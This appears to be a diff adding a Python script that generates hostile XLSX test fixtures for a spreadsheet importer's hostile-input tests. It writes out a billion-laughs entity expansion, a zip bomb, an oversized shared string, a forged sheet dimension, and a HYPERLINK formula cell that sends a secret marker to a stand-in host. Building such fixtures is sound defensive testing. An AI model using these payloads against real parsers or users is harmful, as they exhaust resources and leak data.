@@ -1,0 +1,124 @@
+"""Hostile XLSX workbooks for tests/test_hostile_input.py: made here, so each is plain to read.
+
+Run ``python tests/hostile/make_xlsx.py`` to write them beside this file (they are committed;
+the tests also build them in memory from the same functions).
+"""
+
+from __future__ import annotations
+
+import io
+import zipfile
+from pathlib import Path
+
+SECRET = "SECRETMARK"
+
+_CONTENT_TYPES = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+    '<Default Extension="xml" ContentType="application/xml"/>'
+    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
+    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
+    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
+    '</Types>')
+_RELS = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
+    '</Relationships>')
+_WORKBOOK = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
+    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
+    '<sheets><sheet name="Roster" sheetId="1" r:id="rId1"/></sheets></workbook>')
+_WORKBOOK_RELS = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
+    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
+    '</Relationships>')
+_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+
+
+def _sheet(rows: str, prolog: str = "") -> str:
+    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
+            f'<worksheet {_NS}><sheetData>{rows}</sheetData></worksheet>')
+
+
+def _strings(items: list[str], prolog: str = "") -> str:
+    body = "".join(f"<si><t>{s}</t></si>" for s in items)
+    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
+            f'<sst {_NS} count="{len(items)}" uniqueCount="{len(items)}">{body}</sst>')
+
+
+def _cell(ref: str, index: int) -> str:
+    return f'<c r="{ref}" t="s"><v>{index}</v></c>'
+
+
+_HEADER = f'<row r="1">{_cell("A1", 0)}{_cell("B1", 1)}</row>'
+
+
+def workbook(sheet: str, strings: str) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("[Content_Types].xml", _CONTENT_TYPES)
+        z.writestr("_rels/.rels", _RELS)
+        z.writestr("xl/workbook.xml", _WORKBOOK)
+        z.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
+        z.writestr("xl/worksheets/sheet1.xml", sheet)
+        z.writestr("xl/sharedStrings.xml", strings)
+    return out.getvalue()
+
+
+def good() -> bytes:
+    """name, unit / Ana Lopez, ICU: the control case, accepted."""
+    return workbook(_sheet(_HEADER + f'<row r="2">{_cell("A2", 2)}{_cell("B2", 3)}</row>'),
+                    _strings(["name", "unit", "Ana Lopez", "ICU"]))
+
+
+def billion_laughs() -> bytes:
+    """Shared strings whose entities expand to a billion copies of the secret."""
+    lol = (f'<!DOCTYPE sst [<!ENTITY a "{SECRET}">'
+           + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
+           + "]>")
+    return workbook(_sheet(_HEADER + f'<row r="2">{_cell("A2", 2)}{_cell("B2", 3)}</row>'),
+                    _strings(["name", "unit", "&j;", "ICU"], prolog=lol))
+
+
+def zip_bomb() -> bytes:
+    """A sheet of 60 MB of blank space: a few kilobytes in the zip."""
+    pad = " " * 60_000_000
+    return workbook(_sheet(_HEADER + pad + f'<row r="2">{_cell("A2", 2)}{_cell("B2", 3)}</row>'),
+                    _strings(["name", "unit", "Ana Lopez", "ICU"]))
+
+
+def huge_shared_string() -> bytes:
+    """One shared string of 2 million characters (Excel allows 32,767 in a cell)."""
+    return workbook(_sheet(_HEADER + f'<row r="2">{_cell("A2", 2)}{_cell("B2", 3)}</row>'),
+                    _strings(["name", "unit", SECRET * 200_000, "ICU"]))
+
+
+def formula_cells() -> bytes:
+    """A name that is a formula (it would run in whoever opens an export of it)."""
+    row = (f'<row r="2"><c r="A2"><f>HYPERLINK("http://x/{SECRET}","Ana")</f></c>'
+           f'{_cell("B2", 3)}</row>')
+    return workbook(_sheet(_HEADER + row), _strings(["name", "unit", "unused", "ICU"]))
+
+
+def wide_dimension() -> bytes:
+    """A sheet claiming to span A1:XFD1048576, with one real row: read as what it holds."""
+    sheet = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet {_NS}>'
+             f'<dimension ref="A1:XFD1048576"/><sheetData>{_HEADER}'
+             f'<row r="2">{_cell("A2", 2)}{_cell("B2", 3)}</row></sheetData></worksheet>')
+    return workbook(sheet, _strings(["name", "unit", "Ana Lopez", "ICU"]))
+
+
+FILES = {"good.xlsx": good, "billion-laughs.xlsx": billion_laughs, "zip-bomb.xlsx": zip_bomb,
+         "huge-shared-string.xlsx": huge_shared_string, "formula-cells.xlsx": formula_cells,
+         "wide-dimension.xlsx": wide_dimension}
+
+if __name__ == "__main__":
+    here = Path(__file__).parent
+    for name, make in FILES.items():
+        (here / name).write_bytes(make())
+        print(name, (here / name).stat().st_size)
